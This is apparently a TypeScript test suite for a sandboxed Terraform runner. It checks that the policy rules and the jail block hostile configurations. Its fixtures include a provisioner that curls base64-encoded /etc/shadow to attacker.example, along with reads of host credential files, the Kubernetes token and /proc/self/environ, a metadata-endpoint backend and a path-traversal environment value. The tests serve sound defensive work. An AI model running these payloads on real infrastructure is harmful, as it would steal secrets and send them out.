// Threat rows 8 and 16-20: state and backends, reading host files through functions, required_version
// games, provisioners. Policy findings first; then what the jail and the pipeline do with the attack.
import { describe, expect, it } from 'vitest';
import { errorText, expectBlocked, stepNames } from './support/expect.js';
import { PLANTED, files, runTerraform } from './support/runner.js';

type Outputs = { planned_values: { outputs: Record<string, { value: unknown }> } };
const outputs = (plan: unknown): Record<string, { value: unknown }> => (plan as Outputs).planned_values.outputs;

describe('threat row 8: uploaded state and saved backends', () => {
  it('uploaded_state_and_saved_backend_are_stripped_and_ignored', async () => {
    // If the uploaded state were read, terraform_data.a would already exist and the plan would not create it.
    const state = JSON.stringify({
      version: 4, terraform_version: '1.11.4', serial: 1, lineage: 'x', outputs: {},
      resources: [{ mode: 'managed', type: 'terraform_data', name: 'a', provider: 'provider["evil.example.com/x/evil"]', instances: [{ schema_version: 0, attributes: { id: 'x', input: null, output: null, triggers_replace: null } }] }],
    });
    const result = await runTerraform({
      input: files({
        'main.tf': 'resource "terraform_data" "a" {}\n',
        'terraform.tfstate': state,
        'terraform.tfstate.d/prod/terraform.tfstate': state,
        '.terraform/terraform.tfstate': JSON.stringify({ version: 3, backend: { type: 'http', config: { address: 'http://169.254.169.254/' } } }),
        '.terraform/environment': '../../../../etc',
      }),
    });
    expect(result.error).toBeNull();
    expect(result.summary).toMatchObject({ add: 1, noop: 0, resources: [{ address: 'terraform_data.a', actions: ['create'] }] });
    expect(result.findings.filter((f) => f.rule === 'stripped_file').map((f) => f.file).sort()).toEqual([
      '.terraform/environment', '.terraform/terraform.tfstate', 'terraform.tfstate', 'terraform.tfstate.d/prod/terraform.tfstate',
    ]);
  });
});

describe('threat row 16: reading secrets through functions', () => {
  it('file_proc_self_environ_finds_no_proc_validation_error', async () => {
    const result = await runTerraform({ input: files({ 'main.tf': 'output "env" {\n  value = file("/proc/self/environ")\n}\n' }) });
    expect(result.error?.type).toBe('validation_error');
    expect(errorText(result)).toMatch(/no file exists at "\/proc\/self\/environ"/);
  });

  it('templatefile_of_host_credentials_finds_nothing_validation_error', async () => {
    const result = await runTerraform({ input: files({ 'main.tf': 'output "c" {\n  value = templatefile("/root/.aws/credentials", {})\n}\n' }) });
    expect(result.error?.type).toBe('validation_error');
    expect(errorText(result)).toMatch(/no file exists at "\/root\/.aws\/credentials"/);
  });

  it('kubernetes_service_account_token_is_absent_validation_error', async () => {
    const result = await runTerraform({ input: files({ 'main.tf': 'output "t" {\n  value = file("/var/run/secrets/kubernetes.io/serviceaccount/token")\n}\n' }) });
    expect(result.error?.type).toBe('validation_error');
    expect(errorText(result)).toMatch(/no file exists/);
  });

  it('fileset_of_root_and_home_show_only_the_jail', async () => {
    const result = await runTerraform({
      input: files({
        'main.tf': [
          'output "all" {\n  value = fileset("/", "**")\n}',
          'output "home" {\n  value = pathexpand("~")\n}',
          'output "home_files" {\n  value = fileset(pathexpand("~"), "**")\n}',
          '',
        ].join('\n'),
      }),
    });
    expect(result.error).toBeNull();
    const all = outputs(result.plan_json).all!.value as string[];
    expect(all).toContain('workspace/main.tf');
    expect(all).toContain('etc/confine/terraform.rc');
    // Only the profile: the binary, the mirror, the CLI config, the workspace and this run's /tmp.
    const roots = [...new Set(all.map((path) => path.split('/')[0]))].sort();
    for (const root of roots) expect(['etc', 'opt', 'tmp', 'usr', 'workspace']).toContain(root);
    expect(all.filter((path) => path.startsWith('etc/'))).toEqual(['etc/confine/terraform.rc']);
    expect(outputs(result.plan_json).home!.value).toBe('/home/sandbox');
    expect(outputs(result.plan_json).home_files!.value).toEqual([]);
  });

  it('credentials_are_not_in_init_or_show_and_redacted_everywhere', async () => {
    // No step has the credentials (issue 11: they enter no jail); a config that echoes a value equal to
    // them back must not return it (s3 module fetch at init proved no ambient creds).
    const result = await runTerraform({
      input: files({ 'main.tf': `output "echo" {\n  value = "${PLANTED.aws_secret_access_key}"\n}\n` }),
    }, {}, { credentials: true });
    expect(result.error).toBeNull();
    expect(outputs(result.plan_json).echo!.value).toBe('[REDACTED]');
    // runTerraform already asserted the whole result (steps, diagnostics, plan JSON) holds no planted value.
  });
});

describe('threat row 17: terraform_remote_state', () => {
  const local = files({ 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "local"\n  config = {\n    path = "/etc/shadow"\n  }\n}\noutput "o" {\n  value = data.terraform_remote_state.s.outputs\n}\n' });
  const http = files({ 'main.tf': 'data "terraform_remote_state" "s" {\n  backend = "http"\n  config = {\n    address = "http://169.254.169.254/state"\n  }\n}\n' });

  it('remote_state_is_blocked_by_policy_security_violation', async () => {
    expectBlocked(await runTerraform({ input: local }), 'remote_state', 'main.tf', 1);
  });

  it('remote_state_local_with_policy_warning_finds_no_host_file_validation_error', async () => {
    const result = await runTerraform({ input: local }, { TF_POLICY_WARN: 'remote_state' });
    expect(result.error?.type).toBe('validation_error');
    expect(stepNames(result)).toEqual(['init', 'plan']);
    expect(errorText(result)).toMatch(/Unable to find remote state/);
  });

  it('remote_state_http_with_policy_warning_has_no_network_validation_error', async () => {
    const result = await runTerraform({ input: http }, { TF_POLICY_WARN: 'remote_state' });
    expect(result.error?.type).toBe('validation_error');
    expect(errorText(result)).toMatch(/socket: address family not supported by protocol/);
  });
});

describe('threat row 18: backend and cloud blocks', () => {
  const backend = files({ 'main.tf': 'terraform {\n  backend "s3" {\n    bucket = "victim-state"\n    key    = "prod.tfstate"\n    region = "us-east-1"\n  }\n}\nresource "terraform_data" "a" {}\n' });
  const cloud = files({ 'main.tf': 'resource "terraform_data" "a" {}\n\nterraform {\n  cloud {\n    organization = "victim"\n    workspaces {\n      name = "prod"\n    }\n  }\n}\n' });

  it('backend_block_is_blocked_security_violation', async () => {
    expectBlocked(await runTerraform({ input: backend }), 'backend', 'main.tf', 2);
  });

  it('cloud_block_is_blocked_security_violation', async () => {
    expectBlocked(await runTerraform({ input: cloud }), 'cloud', 'main.tf', 4);
  });

  it('backend_with_policy_warning_is_never_initialized_validation_error', async () => {
    const result = await runTerraform({ input: backend }, { TF_POLICY_WARN: 'backend' });
    // init ran with -backend=false; plan refuses to use an uninitialized backend instead of reaching it.
    expect(result.error?.type).toBe('validation_error');
    expect(stepNames(result)).toEqual(['init', 'plan']);
    expect(errorText(result)).toMatch(/Backend initialization required/);
  });

  it('cloud_with_policy_warning_is_never_initialized_validation_error', async () => {
    const result = await runTerraform({ input: cloud }, { TF_POLICY_WARN: 'cloud' });
    expect(result.error?.type).toBe('validation_error');
    expect(errorText(result)).toMatch(/HCP Terraform or Terraform Enterprise initialization required/);
  });
});

describe('threat row 19: required_version games', () => {
  it('required_version_mismatch_is_validation_error', async () => {
    const result = await runTerraform({ input: files({ 'main.tf': 'terraform {\n  required_version = "< 1.0.0"\n}\n' }) });
    expect(result.error?.type).toBe('validation_error');
    expect(stepNames(result)).toEqual(['init']);
    expect(errorText(result)).toMatch(/Unsupported Terraform Core version/);
  });
});

describe('threat row 20: provisioners', () => {
  const attack = files({
    'main.tf': 'resource "terraform_data" "a" {\n  input = 1\n\n  provisioner "local-exec" {\n    command = "curl http://attacker.example/$(cat /etc/shadow | base64)"\n  }\n  provisioner "remote-exec" {\n    inline = ["id"]\n  }\n  provisioner "file" {\n    source      = "/etc/shadow"\n    destination = "/tmp/x"\n  }\n}\n',
  });

  it('provisioners_are_blocked_with_lines_security_violation', async () => {
    const result = await runTerraform({ input: attack });
    expectBlocked(result, 'provisioner', 'main.tf', 4);
    expect(result.findings.filter((f) => f.rule === 'provisioner').map((f) => f.line)).toEqual([4, 7, 10]);
  });

  it('seed_setting_block_local_exec_false_downgrades_provisioners_to_warnings', async () => {
    const result = await runTerraform({ input: attack }, { BLOCK_LOCAL_EXEC: 'false' });
    expect(result.error).toBeNull();
    expect(result.findings.filter((f) => f.rule === 'provisioner').map((f) => f.severity)).toEqual(['warn', 'warn', 'warn']);
  });

  it('seed_setting_block_external_data_false_still_blocks_the_unlisted_provider', async () => {
    const result = await runTerraform({ input: files({ 'main.tf': 'data "external" "x" {\n  program = ["id"]\n}\n' }) }, { BLOCK_EXTERNAL_DATA: 'false' });
    expect(result.error?.type).toBe('security_violation');
    expect(result.findings.map((f) => `${f.rule}:${f.severity}`).sort()).toEqual(['data_external:warn', 'provider_not_allowed:block']);
  });

  it('provisioners_with_policy_warning_never_run_at_plan', async () => {
    const result = await runTerraform({ input: attack }, { TF_POLICY_WARN: 'provisioner' });
    expect(result.error).toBeNull();
    expect(stepNames(result)).toEqual(['init', 'plan', 'show']);
    expect(result.summary?.add).toBe(1);
  });
});

describe('tf.json configurations', () => {
  it('tf_json_external_data_is_blocked_with_line', async () => {
    const json = JSON.stringify({ data: { external: { pwn: { program: ['sh'] } } } }, null, 2);
    expectBlocked(await runTerraform({ input: files({ 'main.tf.json': json }) }), 'data_external', 'main.tf.json', 4);
  });
});
